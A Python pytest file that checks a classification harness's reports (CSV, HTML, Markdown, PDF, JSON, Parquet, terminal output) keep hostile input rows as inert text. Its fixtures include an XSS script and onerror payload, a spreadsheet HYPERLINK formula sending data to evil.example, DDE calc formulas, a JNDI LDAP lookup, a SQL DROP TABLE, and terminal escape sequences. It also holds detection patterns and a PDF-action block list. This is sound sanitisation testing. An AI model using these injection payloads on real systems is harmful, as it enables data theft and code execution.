"""Labels, texts and ids that would be markup, formulas or terminal commands stay text in every format."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from harness.bakeoff.run_folder import list_runs
from tests.support.desk import Command, Said, command
from tests.support.pdf_text import objects, text_of

SCRIPT = "<script>window.stolen='x'</script>"
LABELS = (
    f"bills {SCRIPT}",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "[click](javascript:alert(1)) ![i](http://evil.example/i.png) | a | `b`",
)
TEXTS = (
    f"{SCRIPT} <img src=x onerror=alert(1)> invoice refund",
    "\x1b]0;owned\x07\x1b[31m\x1b[2J \u202egnirts\u202c parcel courier",
    '#panic() #import "x.typ" $x^2$ @ref <label> *b* _i_ password reset',
    "</script></style><!-- --><h1>Pwned</h1> invoice charge",
    "+cmd|' /C calc'!A0 parcel depot",
    "@SUM(1+1)*cmd|'/C calc'!A0\n# heading\n\n- item\n\n```\nfence\n``` password locked",
    "{{7*7}} ${jndi:ldap://evil.example/x} <%= 1 %> '; DROP TABLE outcomes; -- invoice",
    "-2+3 :red[red] [[wiki]] \\u0000 \\x1b[31m parcel",
)
ESCAPES = re.compile("[\x00-\x08\x0b-\x1f\x7f\x9b\u202a-\u202e\u2066-\u2069]")
FORMULA = ("=", "+", "-", "@", "\t", "\r")
COLUMN = "body <b>&"
PDF_ACTIONS = (b"/JavaScript", b"/JS", b"/Launch", b"/OpenAction", b"/SubmitForm", b"/EmbeddedFile")


class Seen(HTMLParser):
    """What a browser would make of a page: its scripts, its event handlers, its links."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.scripts: list[str] = []
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action")]

    def handle_data(self, data: str) -> None:
        if self._inside == "script":
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, dict[str, bytes]]]:
    """A finished run on hostile rows, and its files by ending; CSV and Parquet hold texts."""
    home = tmp_path_factory.mktemp("hostile")
    with (home / "rows.csv").open("w", newline="", encoding="utf-8") as file:
        table = csv.writer(file)
        table.writerow(("ticket", COLUMN, "queue", "desk"))
        for number in range(72):
            text = f"{TEXTS[number % len(TEXTS)]} {number * 7919} {number}"
            label = LABELS[(number + number // 13) % len(LABELS)]  # partly noise, so that there are errors
            table.writerow((f'=ID{number}"<i>', text, label, TEXTS[number % 2]))
    from typer.testing import CliRunner

    from harness.cli.app import app

    with pytest.MonkeyPatch.context() as patch:
        for name in [name for name in os.environ if name.startswith("TOR_")]:
            patch.delenv(name)
        patch.chdir(home)
        flags = [
            "--data",
            "rows.csv",
            "--text",
            COLUMN,
            "--label",
            "queue",
            "--id",
            "ticket",
            "--slice",
            "desk",
        ]
        made = CliRunner().invoke(app, ["bakeoff", *flags, "--arms", "floor,linear", "--offline"])
        assert made.exit_code == 0, made.output
        asked = "pdf,html,md,json,csv,parquet"
        made = CliRunner().invoke(app, ["report", "latest", "-f", asked, "-o", "out"])
        assert made.exit_code == 0, made.output
    yield home, {path.name: path.read_bytes() for path in (home / "out").iterdir()}


@pytest.fixture
def harness(
    reports: tuple[Path, dict[str, bytes]],
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> Command:
    return command(monkeypatch, capfd, reports[0])


def test_csv_holds_no_formula(reports: tuple[Path, dict[str, bytes]]) -> None:
    for name in ("arms.csv", "predictions.csv"):
        rows = list(csv.reader(io.StringIO(reports[1][name].decode("utf-8-sig"), newline="")))
        assert len(rows) > 2
        for cell in (cell for row in rows[1:] for cell in row):
            number = re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)
            assert number or not cell.lstrip().startswith(FORMULA), cell


def test_html_runs_and_loads_nothing_from_the_rows(reports: tuple[Path, dict[str, bytes]]) -> None:
    page = reports[1]["report.html"].decode()
    seen = Seen()
    seen.feed(page)
    assert "default-src 'none'" in html.unescape(page)
    assert not any("stolen" in script for script in seen.scripts)
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert not {"img", "iframe", "object", "embed", "form", "base", "link"} & seen.tags
    assert not [one for one in seen.addresses if "evil" in one or one.lower().startswith("javascript")]
    assert "Pwned" not in re.sub(r"<[^>]*>", "", page) or "<h1>Pwned" not in page
    assert not ESCAPES.search(
        page.replace("\n", "").replace("\t", "").replace("\u2066", "").replace("\u2069", "")
    )


def test_markdown_has_no_markup_of_the_rows(reports: tuple[Path, dict[str, bytes]]) -> None:
    page = reports[1]["report.md"].decode()
    assert "<script" not in page and "<img" not in page
    assert not re.search(r"(?<!\\)\]\((?:javascript|http)", page), "no link of a row"
    assert not re.search(r"(?<!\\)!\[", page) and not ESCAPES.search(page.replace("\n", ""))


def test_the_pdf_shows_the_labels_and_does_nothing(reports: tuple[Path, dict[str, bytes]]) -> None:
    pdf = reports[1]["report.pdf"]
    whole = pdf + b"".join(objects(pdf).values())
    assert not [action for action in PDF_ACTIONS if action in whole]
    assert b"evil.example" not in b"".join(re.findall(rb"/URI\s*\(([^)]*)\)", whole))
    assert "panicked" not in text_of(pdf)


def test_json_and_parquet_keep_the_texts_as_they_are(reports: tuple[Path, dict[str, bytes]]) -> None:
    import pyarrow.parquet as pq

    results = json.loads(reports[1]["results.json"])
    kept = {label["label"] for arm in results["arms"] for label in arm["quality"]["breakdown"]["labels"]}
    assert kept == set(LABELS)
    rows = pq.read_table(io.BytesIO(reports[1]["predictions.parquet"])).to_pylist()
    assert {row["label"] for row in rows} <= set(LABELS) and any(SCRIPT in row["text"] for row in rows)


def test_nothing_printed_moves_the_cursor(harness: Command, reports: tuple[Path, dict[str, bytes]]) -> None:
    (folder,) = list_runs(reports[0] / "runs")
    first = json.loads(harness("errors", "--json").out)["wrong"][0]["item_id"]
    said = [
        harness("report", "--full"),
        harness("runs"),
        harness("errors"),
        harness("errors", "latest", "floor", "--label", LABELS[0]),
        harness("explain", "latest", first),
        harness("score"),
        harness("errors", "latest", "\x1b[31mfloor"),
        harness("errors", "latest", "--label", "\x1b]0;owned\x07=x"),
        harness("explain", folder.run_id, "\x1b[2J"),
        harness("explain", "\x1b[2Jlatest", first),
    ]
    assert [one.code for one in said] == [0, 0, 0, 0, 0, 0, 2, 2, 2, 2]
    for one in said:
        assert not ESCAPES.search(shown(one).replace("\n", "")), ascii(shown(one))[:400]


def test_an_errors_table_holds_no_formula(harness: Command) -> None:
    rows = list(csv.DictReader(io.StringIO(harness("errors", "latest", "floor", "--csv").out, newline="")))
    assert rows and not [
        row for row in rows if row["label"].startswith(FORMULA) or row["item_id"].startswith("=")
    ]


def shown(said: Said) -> str:
    return said.out + said.err
